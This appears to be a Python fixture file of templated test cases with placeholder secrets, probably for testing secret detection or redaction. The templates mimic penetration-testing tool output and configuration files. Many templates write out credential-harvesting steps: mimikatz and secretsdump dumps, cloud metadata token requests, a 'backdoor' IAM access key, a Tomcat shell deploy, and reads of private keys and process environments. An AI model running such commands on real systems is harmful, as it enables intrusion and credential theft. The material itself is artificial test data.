T(_G, "heredoc-netrc-write", "cat > ~/.netrc <<'EOF'\nmachine «host».«fqdn»\n  login «user»\n  password «pwx»\nEOF\nchmod 600 ~/.netrc", "«pwx»", "machine «host».«fqdn»")
T(_G, "printf-vpn-auth-file", "printf '%s\\n%s\\n' '«user»' '«pwx»' > /tmp/vpn.auth && sudo openvpn --config «slug».ovpn --auth-user-pass /tmp/vpn.auth", "«pwx»", "«slug».ovpn")
T(_G, "smbmap-u-p-recursive", "smbmap -H «ip» -d «dom» -u «user» -p '«pwx»' -R 'SYSVOL' --depth 6 -A 'Groups.xml'", "«pwx»", "smbmap -H «ip»")
T(_G, "vncpasswd-stdin", "echo '«pwn»' | vncpasswd -f > ~/.vnc/passwd && vncserver :1", "«pwn»", "vncpasswd -f")
T(_G, "wp-cli-user-update-pass", "wp user update «user» --user_pass='«pw»' --path=/var/www/html --allow-root", "«pw»", "wp user update «user»")
T(_G, "gophish-api-curl-query-key", "curl -sk 'https://«ip»:3333/api/campaigns/?api_key=«hex64»' | jq '.[].name'", "«hex64»", "https://«ip»:3333/api/campaigns/")

# ======================================================================
# group: tool-output  (what tools printed back)
# ======================================================================
_G = "tool-output"
T(_G, "secretsdump-sam-hash-line", "[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)\nAdministrator:500:aad3b435b51404eeaad3b435b51404ee:«nt»:::\nGuest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::", "«nt»", "Administrator:500")
T(_G, "secretsdump-ntds-user-line", "[*] Using the DRSUAPI method to get NTDS.DIT secrets\n«fqdn»\\«user»:«rid»:aad3b435b51404eeaad3b435b51404ee:«nt»:::", "«nt»", "«fqdn»\\«user»:«rid»")
T(_G, "secretsdump-lsa-defaultpassword", "[*] Dumping LSA Secrets\n[*] DefaultPassword\n«dom»\\«svc»:«pwx»\n[*] DPAPI_SYSTEM", "«pwx»", "[*] DefaultPassword")
T(_G, "secretsdump-kerberos-aes256-key", "[*] Kerberos keys grabbed\nkrbtgt:aes256-cts-hmac-sha1-96:«hex64»\nkrbtgt:aes128-cts-hmac-sha1-96:«hex32»", "«hex64»", "krbtgt:aes256-cts-hmac-sha1-96")
T(_G, "secretsdump-dpapi-machinekey", "[*] DPAPI_SYSTEM\ndpapi_machinekey:0x«hex40»\ndpapi_userkey:0x«hex40_2»", "0x«hex40»", "dpapi_machinekey")
T(_G, "mimikatz-logonpasswords-wdigest", "wdigest :\n         * Username : «user»\n         * Domain   : «dom»\n         * Password : «pwx»\n kerberos :", "«pwx»", "* Username : «user»")
T(_G, "mimikatz-msv-ntlm-line", "msv :\n  [00000003] Primary\n  * Username : «svc»\n  * Domain   : «dom»\n  * NTLM     : «nt»\n  * SHA1     : «hex40»", "«nt»", "* Username : «svc»")
T(_G, "mimikatz-dcsync-hash-ntlm", "[DC] '«fqdn»' will be the domain\n[DC] '«host».«fqdn»' will be the DC server\nSAM Username         : «user»\nCredentials:\n  Hash NTLM: «nt»", "«nt»", "SAM Username         : «user»")
T(_G, "mimikatz-vault-credentialblob", "TargetName     : Domain:target=TERMSRV/«host»\nUserName       : «dom»\\«user»\nCredentialBlob : «pwx»\nAttributes     : 0", "«pwx»", "TERMSRV/«host»")
T(_G, "lazagne-browser-output", "------------------- Chromium passwords -----------------\n[+] Password found !!!\nURL: https://«host».«fqdn»/login\nLogin: «email»\nPassword: «pw»", "«pw»", "https://«host».«fqdn»/login")
T(_G, "responder-ntlmv2-ssp-capture", "[SMB] NTLMv2-SSP Client   : «ip»\n[SMB] NTLMv2-SSP Username : «dom»\\«user»\n[SMB] NTLMv2-SSP Hash     : «user»::«dom»:«hex16»:«netntlm»", "«netntlm»", "NTLMv2-SSP Username : «dom»\\«user»")
T(_G, "responder-http-basic-cleartext", "[HTTP] Basic Client   : «ip»\n[HTTP] Basic Username : «user»\n[HTTP] Basic Password : «pw»", "«pw»", "[HTTP] Basic Username : «user»")
T(_G, "responder-ftp-cleartext", "[FTP] Cleartext Client   : «ip»\n[FTP] Cleartext Username : «user»\n[FTP] Cleartext Password : «pwx»", "«pwx»", "[FTP] Cleartext Client   : «ip»")
T(_G, "hashcat-potfile-ntlm-plain", "$ cat ~/.local/share/hashcat/hashcat.potfile | tail -3\n«nt_2»:«pwh»\n«nt»:«pwx»", "«pwx»", "hashcat.potfile")
T(_G, "hashcat-show-kerberoast-cracked", "$ hashcat -m 13100 kerberoast.hashes --show\n«krbtgs»:«pwh»", "«pwh»", "hashcat -m 13100")
T(_G, "hashcat-show-asrep-cracked", "$ hashcat -m 18200 asrep.txt --show\n«asrep»:«pws»", "«pws»", "hashcat -m 18200")
T(_G, "hashcat-22000-wpa-cracked", "$ hashcat -m 22000 «ssid».hc22000 --show\n«hex32»:«hex12»:«hex12_2»:«ssid»:«pw»", "«pw»", "hashcat -m 22000")
T(_G, "john-show-shadow", "$ john --show unshadowed.txt\nroot:«pwh»:0:0:root:/root:/bin/bash\n«user»:«pwn»:1001:1001::/home/«user»:/bin/bash\n\n2 password hashes cracked, 0 left", "«pwh»", "2 password hashes cracked")
T(_G, "aircrack-key-found", "                         Aircrack-ng 1.7\n      [00:01:12] 2117348/14344392 keys tested (29334.41 k/s)\n                       KEY FOUND! [ «pw» ]\n      Master Key     : «HEX32»", "«pw»", "Aircrack-ng 1.7")
T(_G, "hydra-ssh-success-line", "[DATA] attacking ssh://«ip»:22/\n[22][ssh] host: «ip»   login: «user»   password: «pw»\n1 of 1 target successfully completed, 1 valid password found", "«pw»", "login: «user»")
T(_G, "medusa-account-found", "ACCOUNT FOUND: [ftp] Host: «ip» User: «user» Password: «pwx» [SUCCESS]", "«pwx»", "[ftp] Host: «ip»")
T(_G, "netexec-pwned-plus-line", "SMB  «ip»  445  «host»  [*] Windows Server 2019 Build 17763 x64 (name:«host») (domain:«fqdn»)\nSMB  «ip»  445  «host»  [+] «fqdn»\\«user»:«pwx» (Pwn3d!)", "«pwx»", "(Pwn3d!)")
T(_G, "netexec-laps-output", "LDAP  «ip»  389  «host»  [*] Getting LAPS Passwords\nLDAP  «ip»  389  «host»  Computer: WKS-«dig4»$  User:  Password: «pwr»", "«pwr»", "Getting LAPS Passwords")
T(_G, "kerbrute-valid-login", "2025/03/14 «time» >  [+] VALID LOGIN:\t «user»@«fqdn»:«pws»\n2025/03/14 «time» >  Done! Tested 412 logins (1 successes)", "«pws»", "VALID LOGIN")
T(_G, "get-laps-admpwd-property", "PS> Get-ADComputer «host» -Properties ms-Mcs-AdmPwd | select Name,ms-Mcs-AdmPwd\n\nName   ms-Mcs-AdmPwd\n----   -------------\n«host»  «pwr»", "«pwr»", "ms-Mcs-AdmPwd")
T(_G, "gmsadumper-output", "Users or groups who can read password for GMSA-«word»$:\n > «svc»\nGMSA-«word»$:::«nt»\nGMSA-«word»$:aes256-cts-hmac-sha1-96:«hex64»", "«nt»", "GMSA-«word»$")
T(_G, "imds-aws-role-credentials-json", "$ curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/«word»-ec2-role\n{\n  \"Code\" : \"Success\",\n  \"Type\" : \"AWS-HMAC\",\n  \"AccessKeyId\" : \"«asia»\",\n  \"SecretAccessKey\" : \"«awssk»\",\n  \"Token\" : \"«sts»\",\n  \"Expiration\" : \"«ts»\"\n}", "«awssk»", "«word»-ec2-role")
T(_G, "imds-aws-session-token-field", "{\"Code\":\"Success\",\"LastUpdated\":\"«ts»\",\"Type\":\"AWS-HMAC\",\"AccessKeyId\":\"«asia»\",\"SecretAccessKey\":\"<see above>\",\"Token\":\"«sts»\"}", "«sts»", "\"Code\":\"Success\"")
T(_G, "gcp-metadata-access-token", "$ curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token\n{\"access_token\":\"ya29.c.«bu180»\",\"expires_in\":3599,\"token_type\":\"Bearer\"}", "ya29.c.«bu180»", "Metadata-Flavor: Google")
T(_G, "azure-imds-managed-identity-token", "$ curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net'\n{\"access_token\":\"«jwt»\",\"expires_in\":\"86399\",\"resource\":\"https://vault.azure.net\",\"token_type\":\"Bearer\"}", "«jwt»", "resource=https://vault.azure.net")
T(_G, "aws-sts-assume-role-output", "$ aws sts assume-role --role-arn arn:aws:iam::«dig12»:role/«word»-admin --role-session-name pt-«person»\n{\n    \"Credentials\": {\n        \"AccessKeyId\": \"«asia»\",\n        \"SecretAccessKey\": \"«awssk»\",\n        \"SessionToken\": \"«sts»\",", "«awssk»", "arn:aws:iam::«dig12»:role/«word»-admin")
T(_G, "aws-iam-create-access-key-output", "$ aws iam create-access-key --user-name «word»-backdoor\n{\n    \"AccessKey\": {\n        \"UserName\": \"«word»-backdoor\",\n        \"AccessKeyId\": \"«akid»\",\n        \"Status\": \"Active\",\n        \"SecretAccessKey\": \"«awssk»\"\n    }\n}", "«awssk»", "«word»-backdoor")
T(_G, "trufflehog-raw-result", "Found verified result 🐷🔑\nDetector Type: Github\nDecoder Type: PLAIN\nRaw result: ghp_«an36»\nRepository: https://git.«webdom»/«word»/tools.git\nFile: scripts/sync.sh", "ghp_«an36»", "Detector Type: Github")
T(_G, "gitleaks-json-finding", "{\n  \"Description\": \"Slack token\",\n  \"StartLine\": 14,\n  \"Secret\": \"xoxb-«slackid»-«slackid_2»-«an24»\",\n  \"File\": \"bots/alert.py\",\n  \"Commit\": \"«sha»\"\n}", "xoxb-«slackid»-«slackid_2»-«an24»", "\"File\": \"bots/alert.py\"")
T(_G, "git-log-patch-removed-env-line", "commit «sha»\nAuthor: «person» <«email»>\n    remove creds\n\ndiff --git a/.env b/.env\n-DB_PASSWORD=«pwx»\n+DB_PASSWORD=${DB_PASSWORD}", "«pwx»", "remove creds")
T(_G, "printenv-grep-secret", "$ printenv | grep -iE 'key|secret|pass'\nAWS_DEFAULT_REGION=eu-west-1\nAPP_DB_PASS=«pwx»\nSECRET_PATH=/run/secrets", "«pwx»", "printenv | grep -iE")
T(_G, "proc-environ-nul-separated", "$ cat -v /proc/1/environ\nHOSTNAME=«hex12»^@PATH=/usr/local/bin:/usr/bin^@REDIS_PASSWORD=«pwu»^@HOME=/root^@", "«pwu»", "/proc/1/environ")
T(_G, "kubectl-get-secret-yaml-base64", "apiVersion: v1\ndata:\n  password: «b64pw»\n  username: «b64user»\nkind: Secret\nmetadata:\n  name: «db»-postgres\n  namespace: «word»", "«b64pw»", "name: «db»-postgres", pre=lambda c: c.update(b64pw=_b64e(c["pwx"]), b64user=_b64e(c["user"])))
T(_G, "kubectl-jsonpath-base64-decoded", "$ kubectl get secret argocd-initial-admin-secret -n argocd -o jsonpath='{.data.password}' | base64 -d\n«an16»", "«an16»", "argocd-initial-admin-secret")
T(_G, "docker-inspect-env-array", "        \"Env\": [\n            \"MYSQL_ROOT_PASSWORD=«pwx»\",\n            \"MYSQL_DATABASE=«db»\",\n            \"PATH=/usr/local/sbin:/usr/local/bin\"\n        ],", "«pwx»", "MYSQL_DATABASE=«db»")
T(_G, "netsh-wlan-key-content", "Security settings\n-----------------\n    Authentication         : WPA2-Personal\n    Cipher                 : CCMP\n    Security key           : Present\n    Key Content            : «pw»", "«pw»", "Authentication         : WPA2-Personal")
T(_G, "nmcli-show-secrets-psk", "$ nmcli -s -g 802-11-wireless-security.psk connection show '«ssid»'\n«pw»", "«pw»", "802-11-wireless-security.psk")
T(_G, "burp-proxy-request-cookie", "GET /api/v1/account/settings HTTP/2\nHost: app.«webdom»\nCookie: _ga=GA1.2.«dig9».«dig10»; SESSIONID=«an32»; theme=dark\nUser-Agent: Mozilla/5.0", "«an32»", "Host: app.«webdom»")
T(_G, "burp-repeater-set-cookie-response", "HTTP/1.1 302 Found\nLocation: /dashboard\nSet-Cookie: connect.sid=s%3A«bu32».«bu43»; Path=/; HttpOnly; Secure\nX-Powered-By: Express", "s%3A«bu32».«bu43»", "Location: /dashboard")
T(_G, "burp-request-basic-authorization", "POST /manager/text/deploy?path=/shell HTTP/1.1\nHost: «ip»:8080\nAuthorization: Basic «basic»\nContent-Length: 2291", "«basic»", "Host: «ip»:8080", pre=lambda c: c.update(basic=_b64e("tomcat:" + c["pwx"])))
T(_G, "burp-login-post-body", "POST /login HTTP/1.1\nHost: portal.«webdom»\nContent-Type: application/x-www-form-urlencoded\n\nusername=«user»&password=«pwu»&remember=1", "«pwu»", "username=«user»")
T(_G, "sqlmap-dump-table-cleartext", "Database: «db»\nTable: admins\n[2 entries]\n+----+----------+--------------------+\n| id | login    | pass               |\n+----+----------+--------------------+\n| 1  | «user» | «pwx» |\n+----+----------+--------------------+", "«pwx»", "Table: admins")
T(_G, "sqlmap-retrieved-value", "[«time»] [INFO] retrieved: 'admin'\n[«time»] [INFO] retrieved: '«pwx»'\n[«time»] [INFO] fetching entries of column(s) 'passwd' for table 'config'", "«pwx»", "fetching entries of column(s) 'passwd'")
T(_G, "gophish-captured-credentials-json", "{\"campaign_id\":«num»,\"email\":\"«email»\",\"message\":\"Submitted Data\",\"details\":\"{\\\"payload\\\":{\\\"username\\\":[\\\"«user»\\\"],\\\"password\\\":[\\\"«pwx»\\\"]}}\"}", "«pwx»", "\"message\":\"Submitted Data\"")
T(_G, "evilginx-sessions-table", ": sessions «num»\n\n id        : «num»\n phishlet  : o365\n username  : «email»\n password  : «pwx»\n tokens    : captured\n landing   : https://login.«webdom»/«an8»", "«pwx»", "phishlet  : o365")
T(_G, "nmap-http-default-accounts", "8080/tcp open  http-proxy\n| http-default-accounts:\n|   [Apache Tomcat] at /manager/html/\n|_    tomcat:«pwh»", "«pwh»", "[Apache Tomcat] at /manager/html/")
T(_G, "msf-creds-table", "msf6 > creds\nhost          origin        service        public     private                realm\n----          ------        -------        ------     -------                -----\n«ip»  «ip»  445/tcp (smb)  «user»  «pwx»  «dom»", "«pwx»", "445/tcp (smb)")
T(_G, "meterpreter-hashdump", "meterpreter > hashdump\nAdministrator:500:aad3b435b51404eeaad3b435b51404ee:«nt»:::\nDefaultAccount:503:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::", "«nt»", "meterpreter > hashdump")
T(_G, "beacon-logonpasswords-credentials-view", "[«date» «time»] beacon> logonpasswords\n[+] host called home, sent: 297586 bytes\n«user»  «dom»  «pwx»  plaintext  «host»", "«pwx»", "beacon> logonpasswords")
T(_G, "strings-firmware-grep-pass", "$ strings -n 8 fw_«word»_v2.bin | grep -i pass\nadmin_passwd=«pwx»\n/etc/passwd\nPasswordRecovery.html", "«pwx»", "fw_«word»_v2.bin")
T(_G, "shadow-line-from-extracted-rootfs", "$ cat squashfs-root/etc/shadow\nroot:«shadow»:19473:0:99999:7:::\ndaemon:*:19473:0:99999:7:::", "«shadow»", "squashfs-root/etc/shadow")
T(_G, "sharpchrome-logins-output", "--- Chrome Credential (Path: C:\\Users\\«user»\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data) ---\nfile_path,signon_realm,origin_url,date_created,times_used,username,password\n...,https://vpn.«webdom»/,https://vpn.«webdom»/,«date»,14,«user»,«pwx»", "«pwx»", "Chrome Credential")
T(_G, "firefox-decrypt-output", "Website:   https://jira.«webdom»\nUsername: '«email»'\nPassword: '«pw»'", "«pw»", "Website:   https://jira.«webdom»")
T(_G, "kpcli-show-entry", "kpcli:/«client»/Network> show -f 3\nTitle: core switch «host»\nUname: admin\n Pass: «pwr»\n  URL: ssh://«ip»", "«pwr»", "Title: core switch «host»")
T(_G, "gpp-decrypt-output", "$ gpp-decrypt «cpass»\n«pwx»", "«pwx»", "gpp-decrypt")
T(_G, "ldapdomaindump-description-field", "«user»  «person» «last»  Domain Users  «date»  description: Temp pass «pwh» - change at logon", "«pwh»", "Domain Users")
T(_G, "redis-config-get-requirepass", "«ip»:6379> CONFIG GET requirepass\n1) \"requirepass\"\n2) \"«pwx»\"", "«pwx»", "CONFIG GET requirepass")
T(_G, "jwt-tool-cracked-hmac-key", "jwt_tool.py «jwt» -C -d /usr/share/wordlists/jwt.secrets.list\n[+] CRACKED! The key is: «pwh»\n[+] Tampering with claims...", "«pwh»", "jwt_tool.py")
T(_G, "wifite-cracked-psk", "[+] Cracked WPA Handshake PSK: «pw»\n[+]   Access Point Name: «ssid»\n[+]  Access Point BSSID: «mac»", "«pw»", "Access Point Name: «ssid»")
T(_G, "pypykatz-lsa-minidump-output", "== LogonSession ==\nusername «user»\ndomainname «dom»\n\t== MSV ==\n\t\tUsername: «user»\n\t\tDomain: «dom»\n\t\tLM: NA\n\t\tNT: «nt»", "«nt»", "== LogonSession ==")
T(_G, "lsassy-credentials-line", "[+] «ip» «dom»\\«user»  «pwx»\n[+] «ip» «dom»\\«host»$  [NT] «nt»", "«pwx»", "[+] «ip» «dom»\\«user»")
T(_G, "donpapi-credential-dump", "[«ip»] [+] [CREDENTIAL] LegacyGeneric:target=git:https://git.«webdom» - «user»:«pwx»", "«pwx»", "LegacyGeneric:target=git:https://git.«webdom»")
T(_G, "snaffler-red-rating-match", "[«dom»\\«user»@«host»] «date» «time»Z [File] {Red}<KeepConfigRegexRed|R|passw?o?r?d\\s*=\\s*['\"][^'\"]....|2.1kB|«date»>(\\\\«host»\\IT$\\scripts\\map.ps1) $password = \"«pwx»\"", "«pwx»", "KeepConfigRegexRed")

# ======================================================================
# group: config-file  (excerpts of files the agent opened)
# ======================================================================
_G = "config-file"
T(_G, "pgpass-line", "# ~/.pgpass (found in /home/«user» on «host»)\n«host».«fqdn»:5432:«db»:«user»:«pwx»\n*:*:*:replicator:«pwx_2»", "«pwx»", "«host».«fqdn»:5432:«db»")
T(_G, "my-cnf-client-section", "[client]\nuser=root\npassword=\"«pwx»\"\nhost=«ip»\n\n[mysqldump]\nsingle-transaction", "«pwx»", "[mysqldump]")
T(_G, "netrc-single-line", "machine ftp.«webdom» login «user» password «pwx»", "«pwx»", "machine ftp.«webdom»")
T(_G, "aws-credentials-profile", "[default]\nregion = us-east-1\n\n[«slug»-audit]\naws_access_key_id = «akid»\naws_secret_access_key = «awssk»", "«awssk»", "[«slug»-audit]")
T(_G, "docker-config-json-auths", "{\n  \"auths\": {\n    \"registry.«webdom»\": {\n      \"auth\": \"«dauth»\"\n    }\n  },\n  \"credsStore\": \"\"\n}", "«dauth»", "registry.«webdom»", pre=lambda c: c.update(dauth=_b64e(c["user"] + ":" + c["pwx"])))
T(_G, "git-credentials-store-line", "https://«user»:ghp_«an36»@github.com\nhttps://«user»:«pwu»@bitbucket.«webdom»", "ghp_«an36»", "@github.com")
T(_G, "npmrc-authtoken", "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=npm_«an36»\n@«slug»:registry=https://npm.«webdom»/", "npm_«an36»", "registry=https://registry.npmjs.org/")
T(_G, "pip-conf-index-url-creds", "[global]\nindex-url = https://«user»:«pwu»@pypi.«webdom»/simple\ntimeout = 60", "«pwu»", "pypi.«webdom»/simple")
T(_G, "maven-settings-server-password", "<servers>\n  <server>\n    <id>«slug»-releases</id>\n    <username>«user»</username>\n    <password>«pwx»</password>\n  </server>\n</servers>", "«pwx»", "<id>«slug»-releases</id>")
T(_G, "gradle-properties-repo-password", "org.gradle.jvmargs=-Xmx2g\nartifactoryUser=«user»\nartifactoryPassword=«pwx»\nversion=4.2.1", "«pwx»", "artifactoryUser=«user»")
T(_G, "nuget-config-cleartextpassword", "<packageSourceCredentials>\n  <«slug»feed>\n    <add key=\"Username\" value=\"«user»\" />\n    <add key=\"ClearTextPassword\" value=\"«pwx»\" />\n  </«slug»feed>\n</packageSourceCredentials>", "«pwx»", "<packageSourceCredentials>")
T(_G, "wpa-supplicant-network-psk", "ctrl_interface=DIR=/var/run/wpa_supplicant\nnetwork={\n    ssid=\"«ssid»\"\n    psk=\"«pw»\"\n    key_mgmt=WPA-PSK\n}", "«pw»", "ssid=\"«ssid»\"")
T(_G, "wpa-supplicant-eap-peap-password", "network={\n    ssid=\"«ssid»\"\n    key_mgmt=WPA-EAP\n    eap=PEAP\n    identity=\"«dom»\\\\«user»\"\n    password=\"«pwx»\"\n    phase2=\"auth=MSCHAPV2\"\n}", "«pwx»", "eap=PEAP")
T(_G, "hostapd-conf-wpa-passphrase", "interface=wlan0\ndriver=nl80211\nssid=«ssid»\nhw_mode=g\nchannel=6\nwpa=2\nwpa_passphrase=«pw»\nwpa_key_mgmt=WPA-PSK", "«pw»", "ssid=«ssid»")
T(_G, "networkmanager-nmconnection-psk", "[wifi]\nmode=infrastructure\nssid=«ssid»\n\n[wifi-security]\nkey-mgmt=wpa-psk\npsk=«pw»", "«pw»", "[wifi-security]")
T(_G, "unattend-xml-administrator-password", "<UserAccounts>\n  <AdministratorPassword>\n    <Value>«pwx»</Value>\n    <PlainText>true</PlainText>\n  </AdministratorPassword>\n</UserAccounts>", "«pwx»", "<PlainText>true</PlainText>")
T(_G, "gpp-groups-xml-cpassword", "<User clsid=\"{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}\" name=\"«host»_adm\" changed=\"«date» «time»\">\n  <Properties action=\"U\" newName=\"\" fullName=\"\" cpassword=\"«cpass»\" userName=\"«host»_adm\"/>\n</User>", "«cpass»", "userName=\"«host»_adm\"")
T(_G, "web-config-connectionstring", "<connectionStrings>\n  <add name=\"Default\" connectionString=\"Server=«host».«fqdn»;Database=«db»;User Id=«svc»;Password=«pwx»;TrustServerCertificate=True\" providerName=\"System.Data.SqlClient\" />\n</connectionStrings>", "«pwx»", "Database=«db»")
T(_G, "appsettings-json-connectionstrings", "{\n  \"ConnectionStrings\": {\n    \"Main\": \"Host=«ip»;Port=5432;Database=«db»;Username=«user»;Password=«pwx»\"\n  },\n  \"Logging\": { \"LogLevel\": { \"Default\": \"Warning\" } }\n}", "«pwx»", "Database=«db»")
T(_G, "spring-application-properties-datasource", "spring.datasource.url=jdbc:mysql://«host»:3306/«db»\nspring.datasource.username=«svc»\nspring.datasource.password=«pwx»\nspring.jpa.hibernate.ddl-auto=none", "«pwx»", "spring.datasource.username=«svc»")
T(_G, "spring-application-yml-mail", "spring:\n  mail:\n    host: smtp.«webdom»\n    port: 587\n    username: «email»\n    password: '«pwx»'", "«pwx»", "host: smtp.«webdom»")
T(_G, "wp-config-define-db-password", "define( 'DB_NAME', '«db»_wp' );\ndefine( 'DB_USER', '«user»' );\ndefine( 'DB_PASSWORD', '«pwx»' );\ndefine( 'DB_HOST', 'localhost' );", "«pwx»", "define( 'DB_USER', '«user»' );")
T(_G, "dotenv-file-mixed", "APP_ENV=production\nAPP_DEBUG=false\nDB_HOST=«ip»\nDB_USERNAME=«user»\nDB_PASSWORD=«pwx»\nMAIL_MAILER=smtp", "«pwx»", "DB_HOST=«ip»")
T(_G, "docker-compose-postgres-password", "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_USER: «user»\n      POSTGRES_PASSWORD: \"«pwx»\"\n    volumes: [\"pgdata:/var/lib/postgresql/data\"]", "«pwx»", "image: postgres:16")
T(_G, "k8s-secret-stringdata", "apiVersion: v1\nkind: Secret\nmetadata:\n  name: «word»-smtp\ntype: Opaque\nstringData:\n  SMTP_USER: «email»\n  SMTP_PASS: \"«pwx»\"", "«pwx»", "name: «word»-smtp")
T(_G, "helm-values-admin-password", "grafana:\n  enabled: true\n  adminUser: admin\n  adminPassword: «pwx»\n  ingress:\n    hosts: [grafana.«fqdn»]", "«pwx»", "grafana.«fqdn»")
T(_G, "terraform-tfvars-db-password", "region        = \"eu-central-1\"\ninstance_type = \"t3.medium\"\ndb_username   = \"«user»\"\ndb_password   = \"«pwx»\"", "«pwx»", "db_username   = \"«user»\"")
T(_G, "hcl-provider-block-password", "provider \"vsphere\" {\n  user                 = \"«user»@vsphere.local\"\n  password             = \"«pwx»\"\n  vsphere_server       = \"vcenter.«fqdn»\"\n  allow_unverified_ssl = true\n}", "«pwx»", "vcenter.«fqdn»")
T(_G, "ansible-inventory-become-pass", "[windows]\n«host» ansible_host=«ip»\n\n[windows:vars]\nansible_user=«dom»\\«user»\nansible_password=«pwx»\nansible_connection=winrm", "«pwx»", "ansible_connection=winrm")
T(_G, "sliver-operator-config-token", "{\n  \"operator\": \"«person»\",\n  \"token\": \"«hex64»\",\n  \"lhost\": \"«eip»\",\n  \"lport\": 31337,\n  \"ca_certificate\": \"-----BEGIN CERTIFICATE-----\\nMIIB...\"\n}", "«hex64»", "\"operator\": \"«person»\"")
T(_G, "sliver-operator-config-private-key", "  \"private_key\": \"-----BEGIN EC PRIVATE KEY-----\\n«eckeyesc»\\n-----END EC PRIVATE KEY-----\\n\",\n  \"certificate\": \"-----BEGIN CERTIFICATE-----\\n...", "«eckeyesc»", "\"private_key\"", pre=lambda c: c.update(eckeyesc=c["eckey"].replace("\n", "\\n")))
T(_G, "mythic-dotenv-admin-password", "MYTHIC_ADMIN_USER=mythic_admin\nMYTHIC_ADMIN_PASSWORD=«an30»\nMYTHIC_SERVER_PORT=17443\nPOSTGRES_PASSWORD=«an30_2»", "«an30»", "MYTHIC_ADMIN_USER=mythic_admin")
T(_G, "havoc-yaotl-operator-password", "Operators {\n    user \"«person»\" {\n        Password = \"«pwx»\"\n    }\n}\nListeners { Http { Name = \"«word»-https\" } }", "«pwx»", "user \"«person»\"")
T(_G, "gophish-sending-profile-export", "{\"name\":\"«client» IT Helpdesk\",\"interface_type\":\"SMTP\",\"host\":\"smtp.«webdom»:587\",\"username\":\"helpdesk@«webdom»\",\"password\":\"«pwx»\",\"from_address\":\"IT <helpdesk@«webdom»>\"}", "«pwx»", "\"interface_type\":\"SMTP\"")
T(_G, "msf-database-yml-password", "production:\n  adapter: postgresql\n  database: msf\n  username: msf\n  password: «bs44»\n  host: 127.0.0.1\n  port: 5432", "«bs44»", "adapter: postgresql")
T(_G, "beef-config-yaml-credentials", "beef:\n    credentials:\n        user: \"«user»\"\n        passwd: \"«pwx»\"\n    restrictions:\n        permitted_ui_subnet: [\"127.0.0.1/32\"]", "«pwx»", "permitted_ui_subnet")
T(_G, "burp-project-upstream-proxy-auth", "\"upstream_proxy\":{\"servers\":[{\"authentication_type\":\"basic\",\"destination_host\":\"*\",\"enabled\":true,\"password\":\"«pwx»\",\"proxy_host\":\"proxy.«fqdn»\",\"proxy_port\":3128,\"username\":\"«user»\"}]}", "«pwx»", "proxy.«fqdn»")
T(_G, "proxychains-conf-socks-creds", "[ProxyList]\n# pivot via «host»\nsocks5  127.0.0.1 1080  «user»  «pwx»", "«pwx»", "[ProxyList]")
T(_G, "openvpn-auth-txt", "«user»@«webdom»\n«pwx»", "«pwx»", "«user»@«webdom»")
T(_G, "tomcat-users-xml", "<tomcat-users>\n  <role rolename=\"manager-gui\"/>\n  <user username=\"«user»\" password=\"«pwx»\" roles=\"manager-gui,manager-script\"/>\n</tomcat-users>", "«pwx»", "rolename=\"manager-gui\"")
T(_G, "jenkins-credentials-xml-encrypted", "<com.cloudbees.plugins.credentials.impl.UsernamePasswordCredentialsImpl>\n  <id>«word»-deploy</id>\n  <username>«user»</username>\n  <password>{AQAAABAAAAAQ«bs64»=}</password>\n</com.cloudbees.plugins.credentials.impl.UsernamePasswordCredentialsImpl>", "{AQAAABAAAAAQ«bs64»=}", "<id>«word»-deploy</id>")
T(_G, "htpasswd-apr1-line", "# /etc/apache2/.htpasswd\n«user»:$apr1$«an8»$«bu22»", "$apr1$«an8»$«bu22»", "/etc/apache2/.htpasswd")
T(_G, "redis-conf-requirepass", "bind 0.0.0.0\nprotected-mode no\nport 6379\nrequirepass «pwx»\nmasterauth «pwx»", "«pwx»", "protected-mode no")
T(_G, "rabbitmq-conf-default-pass", "listeners.tcp.default = 5672\ndefault_user = «user»\ndefault_pass = «pwx»\nmanagement.tcp.port = 15672", "«pwx»", "default_user = «user»")
T(_G, "kibana-yml-elasticsearch-password", "server.host: \"0.0.0.0\"\nelasticsearch.hosts: [\"https://«ip»:9200\"]\nelasticsearch.username: \"kibana_system\"\nelasticsearch.password: \"«pwx»\"", "«pwx»", "elasticsearch.username: \"kibana_system\"")
T(_G, "grafana-ini-admin-password", "[security]\nadmin_user = admin\nadmin_password = «pwx»\nsecret_key = «an20»", "«pwx»", "[security]")
T(_G, "pgbouncer-userlist-txt", "\"«user»\" \"«pwx»\"\n\"pgbouncer\" \"md5«hex32»\"", "«pwx»", "\"pgbouncer\"")
T(_G, "odbc-ini-pwd", "[«db»_dsn]\nDriver=ODBC Driver 18 for SQL Server\nServer=tcp:«host».«fqdn»,1433\nUID=«svc»\nPWD=«pwx»", "«pwx»", "UID=«svc»")
T(_G, "openssh-private-key-file", "$ cat /home/«user»/.ssh/id_ed25519\n-----BEGIN OPENSSH PRIVATE KEY-----\n«osshkey»\n-----END OPENSSH PRIVATE KEY-----", "«osshkey»", "/home/«user»/.ssh/id_ed25519")
T(_G, "rsa-private-key-pkcs1", "-----BEGIN RSA PRIVATE KEY-----\n«rsakey»\n-----END RSA PRIVATE KEY-----", "«rsakey»", "-----BEGIN RSA PRIVATE KEY-----")
T(_G, "gcp-service-account-json-private-key", "{\n  \"type\": \"service_account\",\n  \"project_id\": \"«slug»-prod\",\n  \"private_key_id\": \"«hex40»\",\n  \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n«p8esc»\\n-----END PRIVATE KEY-----\\n\",\n  \"client_email\": \"deployer@«slug»-prod.iam.gserviceaccount.com\"", "«p8esc»", "\"project_id\": \"«slug»-prod\"", pre=lambda c: c.update(p8esc=c["p8key"].replace("\n", "\\n")))
T(_G, "wireguard-conf-privatekey", "[Interface]\nAddress = 10.66.0.«num»/32\nPrivateKey = «wg»\nDNS = 10.66.0.1\n\n[Peer]\nPublicKey = «bs43»=\nEndpoint = «eip»:51820", "«wg»", "Endpoint = «eip»:51820")
